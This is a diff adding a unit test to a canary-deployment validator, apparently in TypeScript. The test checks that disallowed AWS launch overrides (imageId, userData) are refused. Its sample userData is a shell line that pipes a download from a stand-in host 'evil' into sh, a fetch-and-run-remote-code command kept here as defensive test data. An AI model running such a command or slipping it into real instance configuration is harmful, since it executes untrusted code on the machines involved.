@@ -135,6 +135,27 @@ describe('validate', () => {
     const state = await call(validate, fakeAdapters(TEST_LISTENER_ARN), localRunInput({ runId: 'my-run-7' }));
     expect(state.runId).toBe('my-run-7');
   });
+
+  it("refuses launch fields the deployment does not accept (a console start skips the run API's check)", async () => {
+    const adapters = fakeAdapters(TEST_LISTENER_ARN);
+    const env = { ALLOWED_LAUNCH_OVERRIDES: 'instanceType', CANARY_JUDGE_LOG_LEVEL: 'SILENT' };
+    const launchTemplate = { launchTemplateName: 'checkout', version: '7' };
+    const input = localRunInput({
+      target: 'aws',
+      baseline: { version: '1.41.0', aws: { launchTemplate, instanceType: 't3.small' } },
+      canary: {
+        version: '1.42.0',
+        aws: { launchTemplate, userData: '#!/bin/sh\ncurl evil | sh', imageId: 'ami-0abc' },
+      },
+    });
+    const error = await expectRejection(validate({ adapters: () => adapters, env })(input, context));
+    expect((error as ValidationError).issues.map((i) => i.path)).toEqual(['canary.aws.imageId', 'canary.aws.userData']);
+    expect(error.message).toContain('not allowed by this deployment (it accepts: instanceType)');
+    expect(adapters.traffic.calls).toEqual([]);
+    // Without the variable (canary-judge run with one's own credentials) nothing is refused.
+    const state = await validate({ adapters: () => adapters, logger })(input, context);
+    expect(state.input.canary.aws?.userData).toContain('#!/bin/sh');
+  });
 });
 
 describe('provision and check-health', () => {
